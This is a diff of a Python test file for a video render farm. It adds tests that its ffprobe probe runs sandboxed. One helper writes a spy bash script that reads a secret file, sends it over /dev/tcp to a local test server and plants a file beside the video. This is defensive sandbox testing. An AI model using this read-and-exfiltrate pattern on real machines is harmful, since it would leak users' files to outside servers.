@@ -7,7 +7,9 @@ credentials can), by the worker; nothing the playlist names is ever requested or
 from __future__ import annotations
 
 import http.server
+import os
 import subprocess
+import sys
 import threading
 from collections.abc import Iterator
 from fractions import Fraction
@@ -23,7 +25,7 @@ from farm.media.ffgraph import EncodeSettings
 from farm.media.master import check_container
 from farm.media.transcode_graph import SegmentCut, segment_argv
 from farm.media.transcode_spec import transcode_spec_from_file
-from tests.conftest import LocalFarm
+from tests.conftest import ROOT, LocalFarm, farm_env
 from tests.e2e.farmtools import wait_final
 from workers.host.box import media_box
 
@@ -32,6 +34,8 @@ FFMPEG = ["ffmpeg", "-hide_banner", "-nostdin", "-loglevel", "error", "-y"]
 SECRET = b"flower_metrics_secret 1\n"
 """What the server the playlist names answers (Flower's /metrics, in the attack)."""
 REFUSED = "its container is 'hls'"
+UNBOXED = "is probed without a box"
+"""The submit's warning when its probe runs unboxed (farm.media.probe.submit_box)."""
 
 
 class Recorder:
@@ -112,6 +116,113 @@ def submit_skipping_the_check(farm: LocalFarm, hostile: Path, tmp_path: Path) ->
     return submit(settings, spec, hostile).job_id
 
 
+def submit_here(master: Path, tmp_path: Path, **env: str) -> subprocess.CompletedProcess[str]:
+    """`farm submit MASTER` on a machine with no farm configured: the probe of a master runs
+    before the farm is asked anything, so a refused master exits 2 and one that passes exits 1
+    (no farm). `env`: FARM_* settings, PATH."""
+    return subprocess.run(
+        [sys.executable, "-m", "farm", "submit", str(master), "--resolution", "64x48"],
+        env=farm_env(tmp_path / "no-farm.json", **env), capture_output=True, text=True,
+        timeout=300, cwd=ROOT,
+    )  # fmt: skip
+
+
+def spy_ffprobe(tmp_path: Path, recorder: Recorder) -> Path:
+    """An ffprobe that does what a master crafted against a demuxer's bug could make the real
+    one do: read a file outside the master's folder, send it to a server, leave a file beside
+    the master. It says what it managed (its last line is in submit's error) and fails."""
+    secret = tmp_path / "elsewhere" / "secret.txt"
+    secret.parent.mkdir()
+    secret.write_text("s3cr3t")
+    spy = tmp_path / "bin" / "ffprobe"
+    spy.parent.mkdir()
+    port = recorder.server.server_address[1]
+    spy.write_text(
+        "#!/bin/bash\n"
+        f"read=$(cat {secret} 2>/dev/null || echo nothing)\n"
+        "sent=no\n"
+        "if { printf 'GET /leak/%s HTTP/1.0\\r\\n\\r\\n' \"$read\" >&3 && cat <&3 >/dev/null; } "
+        f"3<>/dev/tcp/127.0.0.1/{port} 2>/dev/null; then sent=yes; fi\n"
+        "for arg; do master=${arg#file:}; done\n"  # the last argument: the master, as file:PATH
+        'echo planted > "$(dirname "$master")/planted.txt" 2>/dev/null\n'
+        'echo "spy: read $read, sent $sent, home $HOME" >&2\n'
+        "exit 1\n"
+    )
+    spy.chmod(0o755)
+    return spy
+
+
+def test_the_submits_probe_runs_boxed_reading_sending_and_leaving_nothing(
+    recorder: Recorder, tmp_path: Path
+) -> None:
+    """GIVEN an ffprobe that tries what a crafted master could make it do (read a file outside
+    the master's folder, send it to a local server, write beside the master), WHEN a master is
+    submitted, THEN in the submit's box it reads nothing, the server gets no request, nothing is
+    written and its home (the box's one writable folder) is gone after: submit exits 2 with the
+    spy's own words."""
+    spy = spy_ffprobe(tmp_path, recorder)
+    master = make_video(tmp_path / "shots" / "master.mp4", 1)
+    done = submit_here(master, tmp_path, FARM_FFPROBE=str(spy))
+    assert done.returncode == 2, done.stderr
+    assert "spy: read nothing, sent no, home " in done.stderr, done.stderr
+    home = Path(done.stderr.split(", home ", 1)[1].split(")", 1)[0])
+    assert home.name.startswith("farm-probe-") and not home.exists()
+    assert recorder.requests == []
+    assert not (master.parent / "planted.txt").exists()
+    assert UNBOXED not in done.stderr
+
+
+def test_with_the_box_off_the_submits_probe_says_so_once_and_the_spy_gets_out(
+    recorder: Recorder, tmp_path: Path
+) -> None:
+    """GIVEN the same spy, WHEN FARM_SANDBOX=off, THEN submit warns once that the probe is
+    unboxed and why, and the spy reads the file, reaches the server and writes beside the
+    master (what the box stopped above: the spy is no dud)."""
+    spy = spy_ffprobe(tmp_path, recorder)
+    master = make_video(tmp_path / "shots" / "master.mp4", 1)
+    done = submit_here(master, tmp_path, FARM_FFPROBE=str(spy), FARM_SANDBOX="off")
+    assert done.returncode == 2, done.stderr
+    assert "spy: read s3cr3t, sent yes" in done.stderr, done.stderr
+    assert recorder.requests == ["/leak/s3cr3t"]
+    assert (master.parent / "planted.txt").exists()
+    assert done.stderr.count(f"master.mp4 {UNBOXED} (FARM_SANDBOX=off)") == 1
+
+
+def test_without_bwrap_the_submit_still_refuses_a_playlist_and_says_it_is_unboxed(
+    recorder: Recorder, tmp_path: Path
+) -> None:
+    """GIVEN a submitting machine without bwrap (a PATH with ffprobe and ffmpeg only), WHEN an
+    HLS playlist named master.mp4 is submitted, THEN the whitelists refuse it by its container,
+    the server gets no request, and submit says once that the probe ran unboxed and why."""
+    tools = tmp_path / "tools"
+    tools.mkdir()
+    for program in ("ffprobe", "ffmpeg"):
+        found = next(Path(d) / program for d in os.environ["PATH"].split(os.pathsep)
+                     if (Path(d) / program).is_file())  # fmt: skip
+        (tools / program).symlink_to(found)
+    master = network_playlist(tmp_path / "master.mp4", recorder.base)
+    done = submit_here(master, tmp_path, PATH=str(tools))
+    assert done.returncode == 2, done.stderr
+    assert f"master.mp4: {REFUSED}" in done.stderr
+    assert done.stderr.count(f"master.mp4 {UNBOXED} (bwrap is not installed") == 1
+    assert recorder.requests == []
+
+
+def test_a_good_master_still_submits_with_its_probe_boxed(
+    local_farm: LocalFarm, tmp_path: Path
+) -> None:
+    """GIVEN a plain MP4 master, WHEN it is submitted, THEN its boxed probe passes it, the job
+    is queued without an unboxed warning, and it is encoded."""
+    master = make_video(tmp_path / "master.mp4", 1)
+    result = local_farm.farm("submit", str(master), "--resolution", "64x48", "--encoder",
+                             "software", "--preset", "ultrafast")  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    assert UNBOXED not in result.stderr
+    job_id = result.stdout.strip()
+    final = wait_final(local_farm, job_id, 300)
+    assert final["state"] == "done", final
+
+
 def output_keys(farm: LocalFarm, job_id: str) -> list[str]:
     return [k for k in farm.store().keys(f"jobs/{job_id}/") if "output" in k]
 
@@ -129,6 +240,7 @@ def test_a_playlist_named_master_mp4_is_refused_at_submit_by_name_and_fetches_no
     assert f"master.mp4: {REFUSED}" in result.stderr
     assert "mov,mp4,m4a,3gp,3g2,mj2; matroska,webm; mxf" in result.stderr
     assert "Traceback" not in result.stderr
+    assert UNBOXED not in result.stderr  # the probe ran in its box
     assert recorder.requests == []
     assert local_farm.ledger().job_ids(1000) == before
 
